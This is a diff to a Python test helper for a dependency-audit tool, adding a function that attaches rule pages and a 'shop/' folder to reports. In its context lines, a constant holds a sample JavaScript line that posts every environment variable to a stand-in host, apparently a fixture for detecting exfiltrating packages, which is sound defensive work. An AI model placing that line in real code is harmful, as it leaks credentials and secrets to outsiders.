@@ -12,8 +12,9 @@ from audit.model.contents import Source
 from audit.model.facts import Coverage
 from audit.model.finding import Confidence, Finding, FindingPackage, LockfilePlace, Severity
 from audit.model.package import AuditedPackage, Evidence
-from audit.model.report import Report, ReportedPackage
+from audit.model.report import Report, ReportedPackage, RulePage
 from audit.model.summary import summarise
+from audit.rules import RULES
 
 COLLECTOR = 'https.request({ host: "collect.invalid" }).end(JSON.stringify(process.env))'
 
@@ -106,3 +107,13 @@ def inspected(subject: AuditedPackage, *found: Finding, **fields: Any) -> Report
         findings=found,
     )
     return replace(made, **fields)
+
+
+def presented(made: Report) -> Report:
+    """Return a report as it leaves the machine: with every rule's page, in `shop/` of a repository."""
+    pages = tuple(
+        RulePage(each.id, each.group, each.severity, each.title, each.page)
+        for each in RULES.values()
+    )
+    names = {finding.lockfile.file for finding in made.findings} | {made.lockfile or "package.json"}
+    return replace(made, rules=pages, folder="shop", paths={name: f"shop/{name}" for name in names})
